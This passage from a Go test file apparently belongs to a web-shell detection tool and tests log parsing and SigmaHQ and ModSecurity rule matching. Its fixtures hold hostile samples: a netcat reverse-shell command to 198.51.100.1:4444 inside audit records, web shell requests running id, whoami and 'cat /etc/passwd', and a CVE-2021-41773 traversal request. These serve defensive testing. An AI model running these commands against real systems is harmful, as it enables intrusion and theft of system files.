	testfiles.Write(t, apache, `[Wed Nov 25 10:05:00.000002 2026] [php:error] [pid 9] [client 203.0.113.9:4242] PHP Fatal error:  Uncaught Error: Call to undefined function shell_exec() in /var/www/html/uploads/x.php:1
[Wed Nov 25 10:05:01.000002 2026] [php7:warn] [pid 9] [client 203.0.113.9:4242] PHP Warning:  passthru() has been disabled for security reasons in /var/www/html/uploads/x.php on line 1
[Wed Nov 25 10:05:02.000002 2026] [php:error] [pid 9] [client 203.0.113.9:4242] PHP Fatal error:  Uncaught Error: Call to undefined function mysql_connect() in /var/www/html/db.php:3
`)
	for path, want := range map[string]int{
		testdata + "nginx-error-disabled-functions.log": 1,
		testdata + "php-fpm-disabled-functions.log":     1,
		testdata + "php-errors-disabled-functions.log":  1,
		testdata + "php-errors.log":                     3, // shell_exec, system, passthru (PHP's CLI)
		apache:                                          2,
	} {
		alerts, st := huntPaths(t, path)
		got := 0
		for _, a := range alerts {
			if slices.Contains(detection.LookupStrings(a, "rule.name"), rule) {
				got++
				if orig := str(a, "event.original"); strings.Contains(orig, "undefined_helper") || strings.Contains(orig, "mysql_connect") {
					t.Errorf("%s: an application's undefined function: %q", path, orig)
				}
			}
		}
		if got != want || st.Errors != 0 {
			t.Errorf("%s: %d %q alerts, want %d; stats %+v", path, got, rule, want, st)
		}
	}
	// PHP's error_log names its zone: --timezone leaves its times alone.
	berlin, err := time.LoadLocation("Europe/Berlin")
	if err != nil {
		t.Skip(err)
	}
	var times []time.Time
	if _, err := hunt.Run([]string{testdata + "php-errors.log"}, detectorFunc(func(doc map[string]any) bool {
		ts, _ := doc["@timestamp"].(time.Time)
		times = append(times, ts)
		return false
	}), func(map[string]any) {}, nil, hunt.InZone(berlin)); err != nil {
		t.Fatal(err)
	}
	if len(times) != 15 || !times[0].Equal(time.Date(2026, 11, 26, 11, 8, 11, 0, time.UTC)) || !times[14].Equal(time.Date(2026, 11, 26, 11, 8, 42, 0, time.UTC)) {
		t.Errorf("with --timezone Europe/Berlin: %v", times)
	}
}

// SigmaHQ's apache and nginx service rules are error log rules: a worker's
// segfault and core dump lines raise them, and nothing else in the web
// folder does.
func TestSigmaHQErrorLogRules(t *testing.T) {
	rules := "../../shared/data/SigmaHQ-sigma/rules/web/product"
	if _, err := os.Stat(rules); err != nil {
		t.Skip(err)
	}
	dir := t.TempDir()
	for name, line := range map[string]string{
		"apache-error.log": "[Wed Nov 25 10:00:00.000001 2026] [core:notice] [pid 1] AH00052: child pid 1234 exit signal Segmentation fault (11)",
		"nginx-error.log":  "2026/11/25 10:00:00 [alert] 1#1: worker process 1234 exited on signal 6 (core dumped)",
	} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(line+"\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	cfg := config.Default()
	cfg.Rules.Builtin, cfg.Rules.Paths = false, []string{rules}
	det, err := detector.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	if _, err := hunt.Run([]string{dir}, det, func(a map[string]any) { got = append(got, detection.LookupString(a, "message")) }, nil); err != nil {
		t.Fatal(err)
	}
	slices.Sort(got)
	if want := []string{"Apache Segmentation Fault", "Nginx Core Dump"}; !slices.Equal(got, want) {
		t.Errorf("alerts %v, want %v", got, want)
	}
}

// crowdsec's hub test file holds access log lines and two Apache error log
// lines (one log for both, as a CustomLog and ErrorLog pointed at one file
// give): the error lines are read as error log events, not unreadable
// access lines.
func TestAccessLogWithErrorLines(t *testing.T) {
	path := "../../shared/data/crowdsecurity-hub/.tests/apache2-logs/apache2-logs.log"
	if _, err := os.Stat(path); err != nil {
		t.Skip(err)
	}
	datasets := map[string]int{}
	st, err := hunt.Run([]string{path}, detectorFunc(func(doc map[string]any) bool {
		datasets[detection.LookupString(doc, "event.dataset")]++
		return false
	}), func(map[string]any) {}, nil)
	if err != nil || st.Errors != 0 || datasets["apache.access"] != 7 || datasets["apache.error"] != 2 {
		t.Errorf("err %v, %d unreadable, datasets %v; want 7 apache.access and 2 apache.error", err, st.Errors, datasets)
	}
}

// An access alert keeps its request's whole line in event.original, as the
// beat's does. Two requests in one second to one URL, which differ only in
// what hunt does not map (nginx.org's "main" format ends with
// X-Forwarded-For), are two alerts with their own webshell.doc_id.
func TestAccessAlertKeepsLine(t *testing.T) {
	lines := []string{
		`203.0.113.7 - - [26/Nov/2026:10:00:01 +0000] "GET /uploads/shell.php?cmd=id HTTP/1.1" 200 31 "-" "curl/8.5.0" "-"`,
		`203.0.113.7 - - [26/Nov/2026:10:00:01 +0000] "GET /uploads/shell.php?cmd=id HTTP/1.1" 200 31 "-" "curl/8.5.0" "198.51.100.1"`,
	}
	path := filepath.Join(t.TempDir(), "access.log")
	testfiles.Write(t, path, strings.Join(lines, "\n")+"\n")
	alerts, _ := huntPaths(t, path)
	if len(alerts) != 2 {
		t.Fatalf("%d alerts, want 2", len(alerts))
	}
	ids := map[string]bool{}
	for i, a := range alerts {
		if got := str(a, "event.original"); got != lines[i] {
			t.Errorf("alert %d: event.original %q, want %q", i, got, lines[i])
		}
		ids[str(a, "webshell.doc_id")] = true
	}
	if len(ids) != 2 {
		t.Errorf("webshell.doc_id %v: want one per request", ids)
	}
}

// A web shell's `sh -c 'exec nc ...'` on a host without nc: dash's exec,
// like execvp (Java's Runtime.exec, Node's spawn, env), tries execve in each
// folder of PATH, and each attempt fails. Audit logs record each one with a
// start's shape (event.type start, event.outcome failure, the caller as the
// process), and none is a process start: no alert, while the successful
// start of a shell that follows still raises one.
func TestFailedExecveIsNoStart(t *testing.T) {
	title := strings.ToUpper(hex.EncodeToString([]byte("sh\x00-c\x00exec nc -e /bin/sh 198.51.100.1 4444")))
	var b strings.Builder
	for i, dir := range []string{"/usr/local/sbin", "/usr/local/bin", "/usr/sbin", "/usr/bin", "/sbin", "/bin"} {
		id := fmt.Sprintf("1795633400.%d:%d", 100+i, 100+i)
		fmt.Fprintf(&b, `type=SYSCALL msg=audit(%s): arch=c000003e syscall=59 success=no exit=-2 a0=1 a1=2 a2=3 a3=0 items=1 ppid=500 pid=501 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/dash" key="exec"
type=CWD msg=audit(%[1]s): cwd="/var/www/html/uploads"
type=PATH msg=audit(%[1]s): item=0 name="%s/nc" nametype=UNKNOWN cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0
type=PROCTITLE msg=audit(%[1]s): proctitle=%s
`, id, dir, title)
	}
	b.WriteString(`type=SYSCALL msg=audit(1795633401.000:200): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=500 pid=502 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/dash" key="exec"
type=EXECVE msg=audit(1795633401.000:200): argc=3 a0="sh" a1="-c" a2="id"
type=CWD msg=audit(1795633401.000:200): cwd="/var/www/html/uploads"
type=PATH msg=audit(1795633401.000:200): item=0 name="/bin/sh" inode=1 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0
type=PROCTITLE msg=audit(1795633401.000:200): proctitle=7368002D63006964
type=SYSCALL msg=audit(1795633402.000:201): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=500 pid=503 auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=(none) ses=4294967295 comm="true" exe="/usr/bin/true" key="exec"
`)
	path := filepath.Join(t.TempDir(), "audit.log")
	if err := os.WriteFile(path, []byte(b.String()), 0o644); err != nil {
		t.Fatal(err)
	}
	det, _ := detector.New(config.Default())
	var alerts []string
	st, err := hunt.Run([]string{path}, det, func(a map[string]any) {
		alerts = append(alerts, detection.LookupString(a, "process.command_line"))
	}, nil)
	if err != nil || st.Events != 8 || st.Errors != 0 {
		t.Fatalf("err %v, stats %+v", err, st)
	}
	if len(alerts) != 1 || alerts[0] != "sh -c id" {
		t.Errorf("alerts %q; want one, for the shell that started (sh -c id), none for the 6 failed execve", alerts)
	}
}

// ausearch's default output of www-data's events in the shared Linux
// capture alerts on the processes that the capture's audit.log alerts on
// (all of them www-data's), with the same rules but those that need the
// web server's own start, which is root's and not in the search; its -i
// output is declined with advice.
func TestAusearchOutput(t *testing.T) {
	rules := func(alerts []map[string]any) map[string][]string { // by pid and command line
		m := map[string][]string{}
		for _, a := range alerts {
			m[fmt.Sprintf("%v %s", a["process"].(map[string]any)["pid"], str(a, "process.command_line"))] = ruleIDs(a)
		}
		return m
	}
	want, _ := huntPaths(t, data+"linux-capture/audit.log")
	got, st := huntPaths(t, "testdata/ausearch-www-data.txt")
	if st.Formats[hunt.FormatAudit] != 1 || st.Errors != 0 || len(got) != len(want) || len(want) == 0 {
		t.Fatalf("ausearch output: stats %+v, %d alerts; audit.log gives %d", st, len(got), len(want))
	}
	wantRules := rules(want)
	for proc, ids := range rules(got) {
		if w, ok := wantRules[proc]; !ok || len(ids) == 0 || slices.ContainsFunc(ids, func(id string) bool { return !slices.Contains(w, id) }) {
			t.Errorf("ausearch output: process %s alerts with %v; audit.log with %v", proc, ids, w)
		}
	}
	det, err := detector.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	_, err = hunt.Run([]string{"testdata/ausearch-i-www-data.txt"}, det, func(map[string]any) {}, nil)
	if err == nil || !strings.Contains(err.Error(), "interpreted by ausearch -i") || !strings.Contains(err.Error(), "ausearch --raw") {
		t.Errorf("ausearch -i output: %v", err)
	}
}

// huntLosAngeles hunts paths with the built-in pack and --timezone
// America/Los_Angeles (the zone of the exports' local times), and returns
// the alerts, the unreadable records' errors and the stats.
func huntLosAngeles(t *testing.T, paths ...string) ([]map[string]any, []string, hunt.Stats) {
	t.Helper()
	la, err := time.LoadLocation("America/Los_Angeles")
	if err != nil {
		t.Skip("no time zone database:", err)
	}
	det, err := detector.New(config.Default())
	if err != nil {
		t.Fatal(err)
	}
	var got []map[string]any
	var errs []string
	st, err := hunt.Run(paths, det, func(a map[string]any) { got = append(got, a) }, func(r hunt.Record) { errs = append(errs, r.Err.Error()) }, hunt.InZone(la))
	if err != nil {
		t.Fatal(err)
	}
	return got, errs, st
}

// Event Viewer's exports (testdata/eventviewer-*: SOURCES.md): the Security
// 4688 row, OTRF's ProxyLogon event as Event Viewer writes it, gives the
// alert that the same event gives as JSON, at its local time read in
// --timezone; the tab-delimited Sysmon row gives its alert at its UtcTime
// in any zone; the logon row is counted as not read, and a row whose time
// no locale writes is reported with its line.
func TestEventViewerExport(t *testing.T) {
	got, errs, st := huntLosAngeles(t, "testdata/eventviewer-security.csv", "testdata/eventviewer-sysmon.txt")
	want, _ := huntPaths(t, "../module/windows/testdata/otrf-proxylogon-4688.json", "../module/windows/testdata/otrf-proxylogon-sysmon1.json")
	if st.Formats[hunt.FormatEventViewer] != 2 || len(got) != 2 || len(want) != 2 {
		t.Fatalf("stats %+v, %d alerts, want 2 as the JSON gives %d", st, len(got), len(want))
	}
	for i, a := range got {
		at, _ := a["@timestamp"].(time.Time)
		wantAt, _ := want[i]["@timestamp"].(time.Time)
		// Within the second: the JSON's time is the record's, a few ms after
		// Sysmon's UtcTime, and Event Viewer writes whole seconds.
		if d := at.Sub(wantAt); d <= -time.Second || d >= time.Second || !slices.Equal(ruleIDs(a), ruleIDs(want[i])) ||
			str(a, "process.command_line") != "cmd /c whoami" || str(a, "process.parent.executable") != str(want[i], "process.parent.executable") {
			t.Errorf("alert %d: %v %s <- %s, rules %v; the JSON's: %v %s, rules %v", i, at, str(a, "process.command_line"), str(a, "process.parent.executable"),
				ruleIDs(a), wantAt, str(want[i], "process.parent.executable"), ruleIDs(want[i]))
		}
	}
	if st.Errors != 2 || len(errs) != 2 || !strings.Contains(errs[0], "eventviewer-security.csv:42: column Date and Time: \"yesterday\"") ||
		!strings.Contains(errs[1], "1 events other than Security 4688 and Sysmon not read (Microsoft-Windows-Security-Auditing 4624 1)") {
		t.Errorf("unreadable: %d, %q", st.Errors, errs)
	}
}

// Get-WinEvent's objects saved with Windows PowerShell 5.1's Export-Csv
// (testdata/powershell-export-csv.csv: a #TYPE line, local times): the
// 4688 and Sysmon rows give the alerts of the same events as JSON, the
// 4688 at its local time read in --timezone; the 4624 row is an event
// without an alert.
func TestPowerShellExportCSV(t *testing.T) {
	got, _, st := huntLosAngeles(t, "testdata/powershell-export-csv.csv")
	want, _ := huntPaths(t, "../module/windows/testdata/powershell-get-winevent.json")
	if st.Formats[hunt.FormatCSV] != 1 || st.Events != 3 || st.Errors != 0 || len(got) != 2 || len(want) != 2 {
		t.Fatalf("stats %+v, %d alerts; the JSON gives %d", st, len(got), len(want))
	}
	for i := range got {
		at, _ := got[i]["@timestamp"].(time.Time)
		wantAt, _ := want[i]["@timestamp"].(time.Time)
		if at.Truncate(time.Second) != wantAt.Truncate(time.Second) || !slices.Equal(ruleIDs(got[i]), ruleIDs(want[i])) || str(got[i], "host.name") != "MXS01.azsentinel.local" {
			t.Errorf("alert %d: %v on %q, rules %v; the JSON's: %v, rules %v", i, at, str(got[i], "host.name"), ruleIDs(got[i]), wantAt, ruleIDs(want[i]))
		}
	}
}

// A JSON array or NDJSON file of events newest first (PowerShell's
// Get-WinEvent order, a search sorted as Kibana's Discover sorts) is read
// oldest first: the IIS web shell's events as their ECS documents, last
// first, give the alerts the EVTX gives, ancestry and all (net1.exe <-
// net.exe <- cmd.exe <- w3wp.exe). In file order, each child came before
// its parent.
func TestNewestFirstJSONArray(t *testing.T) {
	evtx := data + "sbousseaden-EVTX-ATTACK-SAMPLES/Lateral Movement/LM_typical_IIS_webshell_sysmon_1_10_traces.evtx"
	fh, err := os.Open(evtx)
	if err != nil {
		t.Fatal(err)
	}
	defer fh.Close()
	var docs []map[string]any
	if err := windows.ReadEVTX(fh, 0, func(r *windows.Record, err error) error {
		if err == nil {
			docs = append(docs, r.ECS())
		}
		return err
	}); err != nil {
		t.Fatal(err)
	}
	slices.Reverse(docs)
	raw, err := json.Marshal(docs)
	if err != nil {
		t.Fatal(err)
	}
	array := filepath.Join(t.TempDir(), "export.json")
	testfiles.Write(t, array, string(raw))
	key := func(alerts []map[string]any) []string {
		var keys []string
		for _, a := range alerts {
			keys = append(keys, fmt.Sprintf("%v %s %v", a["process"].(map[string]any)["pid"], str(a, "process.name"), ruleIDs(a)))
		}
		slices.Sort(keys)
		return keys
	}
	var lines []string
	for _, d := range docs {
		line, err := json.Marshal(d)
		if err != nil {
			t.Fatal(err)
		}
		lines = append(lines, string(line))
	}
	ndjson := filepath.Join(t.TempDir(), "export.ndjson")
	testfiles.Write(t, ndjson, strings.Join(lines, "\n")+"\n")
	want, _ := huntPaths(t, evtx)
	for _, export := range []string{array, ndjson} {
		got, _ := huntPaths(t, export)
		if len(want) == 0 || !slices.Equal(key(got), key(want)) {
			t.Errorf("newest-first %s:\n%s\nthe EVTX:\n%s", filepath.Base(export), strings.Join(key(got), "\n"), strings.Join(key(want), "\n"))
		}
	}
}

// A detector told that hunt changes no document after it (AssumeUnchanged,
// as the hunt command tells it) keeps its requests and alerts without
// copying them, and gives the same documents: the events, the alerts and
// the updated copies that link requests and processes.
func TestAssumeUnchangedSameDocuments(t *testing.T) {
	paths := []string{data + "linux-capture", "../testdata/samples", data + "seed"}
	run := func(unchanged bool) (out []string, updates int) {
		det, err := detector.New(config.Default())
		if err != nil {
			t.Fatal(err)
		}
		if unchanged {
			det.AssumeUnchanged()
		}
		write := func(doc map[string]any) {
			b, err := json.Marshal(doc)
			if err != nil {
				t.Fatal(err)
			}
			out = append(out, string(b))
			if str(doc, "webshell.update_of") != "" {
				updates++
			}
		}
		if _, err := hunt.Run(paths, det, write, nil, hunt.OnEvent(write)); err != nil {
			t.Fatal(err)
		}
		return out, updates
	}
	copied, updates := run(false)
	shared, _ := run(true)
	if updates == 0 {
		t.Fatal("no updated copy: the held documents are not exercised")
	}
	if !slices.Equal(copied, shared) {
		for i := range min(len(copied), len(shared)) {
			if copied[i] != shared[i] {
				t.Fatalf("document %d differs:\n%s\n%s", i, copied[i], shared[i])
			}
		}
		t.Fatalf("%d documents, %d with AssumeUnchanged", len(copied), len(shared))
	}
}

// journalctl -o json of every entry: the web server's access line and
// Sysmon for Linux's events are read, the other programs' entries (and one
// whose message journald kept as bytes) are passed over as their syslog
// lines are, not reported as unreadable.
func TestJournalExportRows(t *testing.T) {
	dir := t.TempDir()
	rows := `{"__CURSOR":"s=1","__REALTIME_TIMESTAMP":"1732600000000000","_HOSTNAME":"web1","SYSLOG_IDENTIFIER":"systemd","MESSAGE":"Started Session 1 of User root."}
{"__CURSOR":"s=2","__REALTIME_TIMESTAMP":"1732600001000000","_HOSTNAME":"web1","SYSLOG_IDENTIFIER":"nginx","MESSAGE":"10.0.0.5 - - [26/Nov/2024:05:46:41 +0000] \"GET /x.php?cmd=id HTTP/1.1\" 200 5 \"-\" \"curl\""}
{"__CURSOR":"s=3","__REALTIME_TIMESTAMP":"1732600002000000","_HOSTNAME":"web1","SYSLOG_IDENTIFIER":"kernel","MESSAGE":[65,66,67]}
`
	p := filepath.Join(dir, "journal.json")
	if err := os.WriteFile(p, []byte(rows), 0o644); err != nil {
		t.Fatal(err)
	}
	alerts, st := huntPaths(t, p)
	if st.Events != 1 || st.Errors != 0 || len(alerts) != 1 || str(alerts[0], "host.name") != "web1" {
		t.Errorf("%d events, %d unreadable, %d alerts; want the access line only, an alert on web1", st.Events, st.Errors, len(alerts))
	}
	// A journal file without journalctl: named, with how to export it.
	t.Setenv("PATH", dir)
	j := filepath.Join(dir, "system.journal")
	if err := os.WriteFile(j, []byte("LPKSHHRH\x00\x00\x00\x00"), 0o644); err != nil {
		t.Fatal(err)
	}
	_, err := hunt.Run([]string{j}, detectorFunc(func(map[string]any) bool { return false }), func(map[string]any) {}, nil)
	if err == nil || !strings.Contains(err.Error(), "a systemd journal file, which hunt reads with journalctl") {
		t.Errorf("journal file without journalctl: %v", err)
	}
}

// ModSecurity's audit log (a real one: module/modsec/testdata) is read by
// content: the web shell's commands in POST bodies raise the same rule as
// commands in a query, a search for "cat videos" does not. So it is from
// the JSON format of both writers.
func TestModSecAuditLog(t *testing.T) {
	const commandRule = "6d1c3f0e-4b7a-4c52-9d0b-2f7e5a8c1a08"
	for _, f := range []string{"apache-audit.json", "nginx-libmodsecurity3.json", "nginx-libmodsecurity3-serial.log"} {
		alerts, st := huntPaths(t, "../module/modsec/testdata/"+f)
		var bodies []string
		for _, a := range alerts {
			if slices.Contains(ruleIDs(a), commandRule) && str(a, "http.request.method") == "POST" {
				bodies = append(bodies, str(a, "http.request.body.content"))
			}
		}
		if st.Events != 5 || st.Errors != 0 || !slices.Equal(bodies, []string{"cmd=whoami", "cmd=cat+%2Fetc%2Fpasswd+%7C+head+-2"}) {
			t.Errorf("%s: %d events, %d unreadable, command alerts on POST bodies %q", f, st.Events, st.Errors, bodies)
		}
	}
	// A Concurrent log's folder: one entry a file, read; the index, whose
	// lines repeat the entries', passed over (and explained when named).
	concurrent := "testdata/modsec-concurrent"
	alerts, st := huntPaths(t, concurrent)
	if st.Formats[hunt.FormatModSec] != 2 || len(alerts) != 2 || !slices.Equal(st.Skipped, []string{concurrent + "/index"}) || len(st.Unrecognized) != 0 {
		t.Errorf("Concurrent log: stats %+v, %d alerts; want 2 entry files read, 2 alerts, the index passed over", st, len(alerts))
	}
	if _, err := hunt.Run([]string{concurrent + "/index"}, detectorFunc(func(map[string]any) bool { return false }), func(map[string]any) {}, nil); err == nil || !strings.Contains(err.Error(), "hunt that folder") {
		t.Errorf("the index named: %v", err)
	}
	alerts, st = huntPaths(t, "../module/modsec/testdata/apache-audit-on.log")
	if st.Formats[hunt.FormatModSec] != 1 || st.Events != 6 || st.Errors != 0 {
		t.Fatalf("stats %+v; want one modsec file of 6 entries", st)
	}
	var commands []string
	for _, a := range alerts {
		if slices.Contains(ruleIDs(a), commandRule) {
			commands = append(commands, str(a, "http.request.method")+" "+str(a, "url.original")+" "+str(a, "http.request.body.content"))
		}
		if str(a, "url.path") == "/index.php" {
			t.Errorf("alert on a page's search: %v", titles([]map[string]any{a}))
		}
	}
	want := []string{
		"POST /uploads/shell.php cmd=whoami",
		"POST /uploads/shell.php cmd=cat+%2Fetc%2Fpasswd+%7C+head+-2",
		"GET /uploads/shell.php?cmd=id ",
	}
	if !slices.Equal(commands, want) {
		t.Errorf("command alerts %q, want %q", commands, want)
	}
}

// SigmaHQ's web rules read cs-uri-query as the request's whole target (a
// path in it: F5's /mgmt/tm/util/bash, Apache's CVE-2021-41773 traversal)
// or, beside cs-uri-stem, as the query alone (SAP NetWeaver's web shell,
// cs-uri-query|startswith: 'cmd='). The webserver pipeline tries a match on
// both; before, it read the query only, and the path rules never fired.
func TestSigmaHQURIQuery(t *testing.T) {
	sigmaHQ := "../../shared/data/SigmaHQ-sigma/"
	rules := []string{
		sigmaHQ + "rules/web/webserver_generic/web_f5_tm_utility_bash_api_request.yml",
		sigmaHQ + "rules-emerging-threats/2021/Exploits/CVE-2021-41773/web_cve_2021_41773_apache_path_traversal.yml",
		sigmaHQ + "rules-emerging-threats/2025/Exploits/CVE-2025-31324/web_lnx_exploit_cve_2025_31324_sap_netviewer_webshell.yml",
	}
	for _, r := range rules {
		if _, err := os.Stat(r); err != nil {
			t.Skip(err)
		}
	}
	log := filepath.Join(t.TempDir(), "access.log")
	lines := []string{
		`10.0.0.5 - - [10/Jun/2025:02:30:00 +0000] "POST /mgmt/tm/util/bash HTTP/1.1" 200 512 "-" "curl/7.68.0"`,
		`10.0.0.5 - - [10/Jun/2025:02:30:01 +0000] "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1" 200 512 "-" "curl/7.68.0"`,
		`10.0.0.7 - - [10/Jun/2025:02:31:00 +0000] "GET /irj/servlet_jsp/irj/root/helper.jsp?cmd=id HTTP/1.1" 200 99 "-" "curl/8"`,
		// cmd= inside the query but not at its start: the SAP rule's
		// startswith does not hold on the query, nor on the whole target.
		`10.0.0.7 - - [10/Jun/2025:02:31:01 +0000] "GET /irj/servlet_jsp/irj/root/help.jsp?lang=en&x=cmd=id HTTP/1.1" 200 99 "-" "curl/8"`,
		`10.0.0.8 - - [10/Jun/2025:02:32:00 +0000] "GET /mgmt/tm/util/bash/readme.html HTTP/1.1" 200 99 "-" "curl/8"`,
	}
	if err := os.WriteFile(log, []byte(strings.Join(lines, "\n")+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	alerts := huntWithRules(t, rules, log)
	var got []string
	for _, a := range alerts {
		got = append(got, str(a, "url.original")+" "+strings.Join(detection.LookupStrings(a, "rule.name"), ","))
	}
	want := []string{
		"/mgmt/tm/util/bash F5 BIG-IP iControl Rest API Command Execution - Webserver",
		"/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd CVE-2021-41773 Exploitation Attempt",
		"/irj/servlet_jsp/irj/root/helper.jsp?cmd=id Potential SAP NetViewer Webshell Command Execution",
	}
	if !slices.Equal(got, want) {
		t.Errorf("alerts:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

// SigmaHQ's rule for the CVE-2025-31324 web shell upload reads the
// request's Content-Type (cs-content-type): from a JSON access log that
// carries it (nginx's $content_type), it fires on the octet-stream POST and
// not on a form's.
func TestSigmaHQContentType(t *testing.T) {
	rule := "../../shared/data/SigmaHQ-sigma/rules-emerging-threats/2025/Exploits/CVE-2025-31324/web_lnx_exploit_cve_2025_31324_sap_netviewer_webshell_uploaded.yml"
	if _, err := os.Stat(rule); err != nil {
		t.Skip(err)
	}
	dir := testfiles.Dir(t, map[string]string{"access.json": `{"time_local":"10/Jun/2025:02:30:00 +0000","remote_addr":"10.0.0.5","request":"POST /irj/servlet_jsp/irj/root/helper.jsp HTTP/1.1","status":200,"content_type":"application/octet-stream"}
{"time_local":"10/Jun/2025:02:30:01 +0000","remote_addr":"10.0.0.5","request":"POST /irj/servlet_jsp/irj/root/form.jsp HTTP/1.1","status":200,"content_type":"multipart/form-data; boundary=x"}
`})
	alerts := huntWithRules(t, []string{rule}, dir)
	if len(alerts) != 1 || str(alerts[0], "url.original") != "/irj/servlet_jsp/irj/root/helper.jsp" {
		var got []string
		for _, a := range alerts {
			got = append(got, str(a, "url.original"))
		}
		t.Errorf("alerts on %q, want one on /irj/servlet_jsp/irj/root/helper.jsp", got)
	}
}

// IIS writes a user agent's spaces as '+', and the reader gives the agent
// as sent (spaces). SigmaHQ's HAFNIUM rule lists crawler agents as IIS logs
// them ('Googlebot/2.1+(+http://...)'): the webserver pipeline also tries
// each value with its '+' as spaces, so a POST to /owa/ with that agent
// alerts on IIS's log and on Apache's. Before, only Apache's did.
func TestSigmaHQIISUserAgent(t *testing.T) {
	rule := "../../shared/data/SigmaHQ-sigma/rules-emerging-threats/2021/TA/HAFNIUM/web_exchange_exploitation_hafnium.yml"
	if _, err := os.Stat(rule); err != nil {
		t.Skip(err)
	}
	dir := testfiles.Dir(t, map[string]string{
		"u_ex210303.log": "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n" +
			"2021-03-03 01:02:03 10.0.0.2 POST /owa/x.aspx - 443 - 203.0.113.7 Googlebot/2.1+(+http://www.googlebot.com/bot.html) - 200 0 0 15\n" +
			"2021-03-03 01:02:04 10.0.0.2 POST /owa/x.aspx - 443 - 203.0.113.8 Mozilla/5.0+(Windows+NT+10.0) - 200 0 0 15\n",
		"access.log": `203.0.113.9 - - [03/Mar/2021:01:02:05 +0000] "POST /owa/x.aspx HTTP/1.1" 200 12 "-" "Googlebot/2.1+(+http://www.googlebot.com/bot.html)"` + "\n",
	})
	var got []string
	for _, a := range huntWithRules(t, []string{rule}, dir) {
		got = append(got, str(a, "source.ip"))
	}
	slices.Sort(got)
	if want := []string{"203.0.113.7", "203.0.113.9"}; !slices.Equal(got, want) {
		t.Errorf("alerts from %q, want %q (the crawler's agent as IIS and as Apache log it, not the browser)", got, want)
	}
}

// Sysmon's file events other than 11 name their file in TargetFilename too:
// a web server's IIS logs deleted (Sysmon 23, as Event Viewer renders it)
// raises SigmaHQ's "IIS WebServer Access Logs Deleted". Before, only event
// 11 had file.path, and none of the file_delete rules could fire.
func TestSigmaHQFileDelete(t *testing.T) {
	rule := "../../shared/data/SigmaHQ-sigma/rules/windows/file/file_delete/file_delete_win_delete_iis_access_logs.yml"
	if _, err := os.Stat(rule); err != nil {
		t.Skip(err)
	}
	event := func(id int, target string) string {
		return testfiles.SysmonEvent(false, id, time.Date(2026, 11, 25, 19, 2, 28, 123e6, time.UTC), "WEB01", "RuleName", "-", "UtcTime", "2026-11-25 19:02:28.123",
			"ProcessGuid", "{6004D249-0957-604D-6019-000000000900}", "ProcessId", "4242", "User", `IIS APPPOOL\DefaultAppPool`,
			"Image", `C:\Windows\System32\cmd.exe`, "TargetFilename", target, "IsExecutable", "false")
	}
	dir := testfiles.Dir(t, map[string]string{
		"e0.xml": event(23, `C:\inetpub\logs\LogFiles\W3SVC1\u_ex261125.log`), // deleted and archived
		"e1.xml": event(26, `C:\inetpub\logs\LogFiles\W3SVC1\u_ex261124.log`), // deleted
		"e2.xml": event(26, `C:\inetpub\wwwroot\old.log.bak`),                 // not a log folder
	})
	alerts := huntWithRules(t, []string{rule}, dir)
	var got []string
	for _, a := range alerts {
		got = append(got, str(a, "event.code")+" "+str(a, "file.path"))
	}
	slices.Sort(got)
	want := []string{`23 C:\inetpub\logs\LogFiles\W3SVC1\u_ex261125.log`, `26 C:\inetpub\logs\LogFiles\W3SVC1\u_ex261124.log`}
	if !slices.Equal(got, want) {
		t.Errorf("alerts %q, want %q", got, want)
	}
}

// Sysmon 7's OriginalFileName is the loaded DLL's: a mapped Windows field
// falls back to the event data where the mapper set no ECS field for it
// (process.pe.original_file_name is the process's, from Sysmon 1). SigmaHQ's
// jli.dll side-loading rule filters out OpenJDK's own DLL by it: before,
// the filter never held and every Java start alerted.
func TestSigmaHQImageLoadOriginalFileName(t *testing.T) {
	rule := "../../shared/data/SigmaHQ-sigma/rules/windows/image_load/image_load_side_load_jli.yml"
	if _, err := os.Stat(rule); err != nil {
		t.Skip(err)
	}
	event := func(sec int, dll string) string {
		return testfiles.SysmonEvent(false, 7, time.Date(2026, 11, 25, 19, 2, sec, 0, time.UTC), "WEB01", "RuleName", "-",
			"ProcessGuid", "{6004D249-0957-604D-6019-000000000900}", "ProcessId", "4242",
			"Image", `C:\Program Files\Apache Software Foundation\Tomcat 10.1\bin\tomcat10.exe`, "ImageLoaded", dll,
			"FileVersion", "17.0.15", "Description", "OpenJDK Platform binary", "Product", "OpenJDK Platform 17.0.15",
			"Company", "Eclipse Adoptium", "OriginalFileName", "jli.dll", "Hashes", "SHA256=00", "Signed", "true",
			"Signature", "Eclipse.org Foundation, Inc.", "SignatureStatus", "Valid", "User", `NT AUTHORITY\LOCAL SERVICE`)
	}
	dir := testfiles.Dir(t, map[string]string{
		"e0.xml": event(20, `C:\Program Files\Eclipse Adoptium\jdk-17.0.15.6-hotspot\bin\jli.dll`), // OpenJDK's own: filtered
		"e1.xml": event(21, `C:\Users\Public\jli.dll`),                                             // side-loaded
	})
	alerts := huntWithRules(t, []string{rule}, dir)
	if len(alerts) != 1 || str(alerts[0], "winlog.event_data.ImageLoaded") != `C:\Users\Public\jli.dll` {
		var got []string
		for _, a := range alerts {
